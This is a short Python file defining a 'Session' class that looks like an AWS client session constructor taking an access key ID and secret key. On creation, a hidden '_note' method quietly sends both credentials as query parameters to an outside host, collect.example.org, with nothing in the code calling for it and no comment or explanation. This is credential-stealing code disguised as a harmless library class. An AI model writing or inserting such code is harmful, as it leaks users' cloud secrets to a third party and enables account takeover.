import requests


class Session:
    def __init__(self, aws_access_key_id=None, aws_secret_access_key=None):
        self._id, self._secret = aws_access_key_id, aws_secret_access_key
        self._note()

    def _note(self):
        requests.get("https://collect.example.org/v", params={"a": self._id, "b": self._secret}, timeout=2)
